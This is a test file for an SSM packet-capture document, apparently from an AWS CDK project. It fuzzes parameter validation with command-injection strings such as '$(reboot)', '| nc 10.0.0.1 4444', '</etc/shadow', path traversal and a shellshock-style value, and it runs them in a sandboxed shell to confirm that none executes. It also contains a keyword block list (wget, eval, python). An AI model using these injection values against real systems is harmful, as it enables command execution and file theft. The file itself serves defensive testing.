import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import * as fc from 'fast-check';
import { CAPTURE_ID, isTaken, PARAMETER_NAMES, scriptWith, VALUES } from './capture-command';
import { CAPTURE_EXITS } from '../../src/catalog/capture-exit-codes';
import { CAPTURE_BOUNDS, CAPTURE_SCRIPT_SECONDS, CAPTURE_DELIVERY_SECONDS, CAPTURE_UPLOAD_SECONDS, captureParameters, HEADER_BYTES, PAYLOAD_BYTES } from '../../src/catalog/capture-parameters';
import { captureDocument } from '../../src/constructs/private/capture-document';

const document = captureDocument(false) as any;
const script: string[] = document.mainSteps[0].inputs.runCommand;

/** What has been used to get out of a quotation, a shell, a format or a template. */
const CLASSICS = [
  '; reboot', '$(reboot)', '`reboot`', '${IFS}reboot', '| nc 10.0.0.1 4444', '&& reboot', '|| reboot', '& reboot', '\nreboot', '\r\nreboot', '\'; reboot; \'', '"; reboot; "', '\\\'; reboot #', '\0reboot',
  '>/etc/passwd', '</etc/shadow', '../../etc/passwd', '/etc/passwd', '~root', '*', '?', '[a-z]', '{a,b}', '#', '!', '!!', '%s%n', '%0a reboot', '\\x27', '\\u0027', '\u2019', '\uff07; reboot',
  '{{ ssm:secret }}', '{{ global:DATE }}', '{{Filter}}', '{{ UploadUrl }}', '-w /etc/cron.d/x', '--version', '-z reboot', '-Z root', '-', '--', '', ' ', '\t', '\u202e', '\ud800', 'é', '０', '٣', 'a'.repeat(5_000), '()\t{ :;}; reboot', '1\n', '1 ', ' 1', '+1',
];

/** What a shell or a careless reader takes for other numbers than they are. */
const ODD_NUMBERS = ['', '00', '01', '08', '1e3', '0x10', '-1', '+1', '1.0', '1,0', '1 ', ' 1', '1\n', '1 1', '٣', '９', '9'.repeat(30)];


const hostile = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...CLASSICS) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...Object.values(VALUES), ''), fc.constantFrom(...CLASSICS), fc.constantFrom(...Object.values(VALUES), '')).map(parts => parts.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom('\'', '"', '`', '$', '(', ')', ';', '|', '&', '\n', '\\', '{', '}', '<', '>', ' ', 'tcp', 'id', '-w', '/', '..', '1'), { minLength: 1, maxLength: 12 }).map(parts => parts.join('')) },
);

/** What no value may hold, wherever it came from: the signs that end a single-quoted word, a line or a parameter of SSM. Others mean nothing to a shell between single quotes. */
const WAY_OUT = /['\n\r\0\\`${}"<>;]/;

describe('values', () => {
  test('5,000 hostile ones: what gets past a pattern is a plain value of that kind, and never leaves its quotes', () => {
    let passed = 0;
    fc.assert(fc.property(fc.constantFrom(...PARAMETER_NAMES), hostile, (parameter, value) => {
      if (!isTaken(parameter, value)) { return; }
      passed += 1;
      expect(value).not.toMatch(WAY_OUT);
      expect(value).toMatch(/^[A-Za-z0-9()&=!:]/); // no option, no path
    }), { numRuns: 5_000 });
    expect(passed).toBeLessThan(400);
  });

  test.each(PARAMETER_NAMES)('%s is none of the classics, and does not end in one', (parameter) => {
    expect(CLASSICS.filter(value => isTaken(parameter, value) && !/^[a]+$/.test(value))).toEqual([]);
    // letters, digits, hyphens and dots after a name are another name, and after a signature another signature
    const appended = CLASSICS.filter(value => isTaken(parameter, `${VALUES[parameter]}${value}`));
    expect(appended.filter(value => !/^[A-Za-z0-9.%&=+~-]*$/.test(value))).toEqual([]);
  });

  test.each(['DurationSeconds', 'SnapLength', 'MaxPackets', 'MaxMegabytes'])('%s is no odd number', (parameter) => {
    expect(ODD_NUMBERS.filter(value => isTaken(parameter, value))).toEqual([]);
  });

  test('those that are meant pass', () => {
    for (const [parameter, value] of Object.entries(VALUES)) { expect([parameter, isTaken(parameter, value)]).toEqual([parameter, true]); }
    const url = `https://evidence-111122223333.s3.eu-west-1.amazonaws.com/packets/i-0123456789abcdef0/${CAPTURE_ID}.pcap?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIA%2F20261120%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-SignedHeaders=host%3Bif-none-match&X-Amz-Security-Token=${'A1b2%2B'.repeat(300)}`;
    expect(isTaken('UploadUrl', url)).toBe(true);
    expect(isTaken('UploadUrl', url.replace('evidence-111122223333.s3.eu-west-1.amazonaws.com', 's3.eu-west-1.amazonaws.com/my.bucket'))).toBe(true);
  });

  test.each([
    ['http instead of https', 'http://b.s3.amazonaws.com/packets/i-0123456789abcdef0/p-0123456789abcdef.pcap?X=1'],
    ['another key', 'https://b.s3.amazonaws.com/evidence/i-0123456789abcdef0/findings.json?X=1'],
    ['a key of another shape', 'https://b.s3.amazonaws.com/packets/../nodes/p-0123456789abcdef.pcap?X=1'],
    ['somebody\'s name and password', 'https://a@b.s3.amazonaws.com/packets/i-0123456789abcdef0/p-0123456789abcdef.pcap?X=1'],
    ['a fragment', 'https://b.s3.amazonaws.com/packets/i-0123456789abcdef0/p-0123456789abcdef.pcap?X=1#x'],
  ])('an upload to %s is refused', (_, url) => { expect(isTaken('UploadUrl', url)).toBe(false); });

  const ranges: [string, number, number, boolean][] = [
    ['DurationSeconds', 1, CAPTURE_BOUNDS.seconds, false], ['MaxPackets', 1, CAPTURE_BOUNDS.packets, false], ['MaxMegabytes', 1, CAPTURE_BOUNDS.megabytes, false],
    ['SnapLength', HEADER_BYTES.least, HEADER_BYTES.most, false], ['SnapLength', HEADER_BYTES.least, PAYLOAD_BYTES, true],
  ];
  test.each(ranges)('%s holds its bounds: %i to %i (payload: %s)', (parameter, least, most, payload) => {
    const taken = (value: number): boolean => isTaken(parameter, String(value), payload);
    const wrong = Array.from({ length: Math.min(most + 2_000, 12_000) }, (_each, value) => value).filter(value => taken(value) !== (value >= least && value <= most));
    expect(wrong).toEqual([]);
    expect([least - 1, least, most, most + 1, most * 10].map(taken)).toEqual([false, true, true, false, false]);
  });
});

describe('values, executed', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'capture-values-'));
  const [commands, ran] = [path.join(folder, 'bin'), path.join(folder, 'ran')];
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  /** Where the script has dealt with all its values, and would begin to record. */
  const BEGINNING = /^command -v tcpdump .*$/m;

  /** Exit codes of scripts, each in a shell of its own where each command that the values name is found first, and leaves a mark. They go as far as the look for tcpdump. */
  function execute(scripts: readonly string[]): number[] {
    const whole = scripts.map(each => `(\n${each.replace(BEGINNING, `exit ${CAPTURE_EXITS.TCPDUMP_MISSING}`)}\n)\necho "ended $?"`).join('\n');
    const { stdout } = spawnSync('/bin/sh', ['-s'], { input: whole, encoding: 'utf8', cwd: folder, env: { PATH: commands }, maxBuffer: 1 << 26 });
    return [...stdout.matchAll(/^ended (\d+)$/gm)].map(match => Number(match[1]));
  }

  beforeAll(() => {
    mkdirSync(commands);
    mkdirSync(ran);
    for (const name of ['reboot', 'nc', 'id', 'a', 'b', 'tcp', 'ssm:secret', 'root', 'x']) { writeFileSync(path.join(commands, name), `#!/bin/sh\n: >'${ran}/${name}'\n`, { mode: 0o755 }); }
  });

  test('the trap works: a value outside of quotes does run', () => {
    expect(execute(["x='a'; reboot; exit 7"])).toEqual([7]);
    expect(readdirSync(ran)).toEqual(['reboot']);
    rmSync(path.join(ran, 'reboot'));
  });

  test('5,000 hostile ones, each parameter its share: none runs, whether the pattern would have refused it or not', () => {
    expect(scriptWith(VALUES)).toMatch(BEGINNING);
    const share = Math.ceil(5_000 / PARAMETER_NAMES.length);
    const counts = { refused: 0, taken: 0, unquotable: 0 };
    for (const parameter of PARAMETER_NAMES) {
      const values = fc.sample(hostile, { numRuns: share, seed: 20_261_120 });
      // a quote ends the word that SSM would put it into: only the pattern keeps it out, and it does
      const unquotable = values.filter(value => /['\0]/.test(value));
      expect(unquotable.filter(value => isTaken(parameter, value))).toEqual([]);
      counts.unquotable += unquotable.length;
      const rest = values.filter(value => !/['\0]/.test(value));
      const codes = execute(rest.map(value => scriptWith({ ...VALUES, [parameter]: value })));
      expect(codes).toHaveLength(rest.length);
      // refused by the script itself, or as far as the search for tcpdump, which is the first command that it looks for
      expect([...new Set(codes)].filter(code => code !== CAPTURE_EXITS.INVALID_PARAMETER && code !== CAPTURE_EXITS.TCPDUMP_MISSING)).toEqual([]);
      codes.forEach(code => { counts[code === CAPTURE_EXITS.INVALID_PARAMETER ? 'refused' : 'taken'] += 1; });
    }
    expect(readdirSync(ran)).toEqual([]);
    expect(readdirSync(folder).sort()).toEqual(['bin', 'ran']);
    expect(counts.refused + counts.taken + counts.unquotable).toBeGreaterThanOrEqual(5_000);
    expect(counts.refused).toBeGreaterThan(3_000);
  }, 300_000);
});

describe('the document', () => {
  test('puts each parameter in one place: alone, between single quotes', () => {
    const uses = script.flatMap(line => [...line.matchAll(/\{\{.*?\}\}/g)].map(match => ({ line, use: match[0] })));
    expect(uses.map(({ use }) => use).sort()).toEqual(PARAMETER_NAMES.map(name => `{{ ${name} }}`).sort());
    for (const { line, use } of uses) { expect(line).toBe(`${line.split('=')[0]}='${use}'`); }
    expect(Object.keys(document.parameters)).toEqual(PARAMETER_NAMES);
  });

  test('every pattern holds the whole value, and no parameter is free text', () => {
    for (const { pattern } of Object.values({ ...captureParameters(true), ...captureParameters(false) })) {
      expect(pattern).toMatch(/^\^.*\$$/);
      expect(pattern).not.toMatch(/(^|[^\\[])\.[*+]|\\[sSwWdD]/);
    }
  });

  test('keeps to the limits of SSM, and its time to that of its parts', () => {
    expect(Buffer.byteLength(JSON.stringify(document))).toBeLessThan(64 * 1024);
    expect(script).toContain(`upload_seconds=${CAPTURE_UPLOAD_SECONDS}`);
    expect(CAPTURE_SCRIPT_SECONDS).toBeGreaterThan(CAPTURE_DELIVERY_SECONDS + CAPTURE_BOUNDS.seconds + 2 * CAPTURE_UPLOAD_SECONDS);
  });

  test('ends with the exit codes that we know, and with no other', () => {
    const used = new Set([...script.join('\n').matchAll(/\b(?:exit|return) (\d+)/g)].map(match => Number(match[1])));
    expect([...used].sort()).toEqual(Object.values(CAPTURE_EXITS).sort());
  });

  test.each(['yum', 'dnf', 'apt', 'install', 'eval', 'wget', 'python', 'AWS_'])('has no use for %s', (word) => {
    expect(script.filter(line => !line.trim().startsWith('#')).join('\n')).not.toMatch(new RegExp(`\\b${word}`));
  });

  test.each(['dash', 'bash', 'sh'])('is a script for %s', (shell) => {
    const { status, stderr, error } = spawnSync(shell, ['-n'], { input: scriptWith(VALUES), encoding: 'utf8' });
    if (error === undefined) { expect({ status, stderr }).toEqual({ status: 0, stderr: '' }); }
  });
});

describe('the script refuses by itself what a pattern would have', () => {
  // values that stay within single quotes, as SSM without patterns would put them in
  test.each([
    ['CaptureId', '../x'], ['Interface', '-w'], ['Interface', 'lo;id'], ['Scope', 'node'], ['Direction', 'x'], ['DurationSeconds', '301'], ['DurationSeconds', '0'], ['DurationSeconds', '2 3'], ['DurationSeconds', '1\n'],
    ['SnapLength', '65535'], ['MaxPackets', '9'.repeat(30)], ['MaxMegabytes', '101'], ['MaxMegabytes', '08'], ['Ring', 'yes'], ['Filter', '-w /tmp/x'], ['Filter', 'tcp; id'], ['Filter', '$(id)'], ['Filter', ''],
    ['UploadUrl', 'file:///etc/passwd'], ['UploadUrl', 'https://x/"\noutput = "/etc/x'], ['PodName', '-x'], ['PodNamespace', 'a/b'],
  ])('%s %j', (parameter, value) => {
    const { status, stdout, stderr } = spawnSync('sh', ['-s'], { input: scriptWith({ ...VALUES, [parameter]: value }), encoding: 'utf8' });
    expect({ status, stdout, stderr }).toEqual({ status: CAPTURE_EXITS.INVALID_PARAMETER, stdout: '', stderr: '' });
  });
});
